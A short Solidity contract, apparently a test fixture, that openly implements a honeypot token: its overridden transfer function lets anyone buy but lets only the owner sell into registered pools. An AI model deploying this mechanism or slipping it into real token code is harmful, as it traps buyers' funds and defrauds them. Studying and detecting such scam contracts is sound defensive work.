// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {PlainToken} from "./PlainToken.sol";

/// A honeypot: anybody can buy, only the owner can sell.
contract TrapToken is PlainToken {
    mapping(address => bool) public isPool;

    constructor(
        string memory name_,
        string memory symbol_,
        uint8 decimals_,
        address[] memory holders,
        uint256[] memory amounts
    ) PlainToken(name_, symbol_, decimals_, holders, amounts) {}

    function setPool(address pool) external {
        require(msg.sender == owner);
        isPool[pool] = true;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(!isPool[to] || from == owner, "SELLING_DISABLED");
        super._move(from, to, value);
    }
}
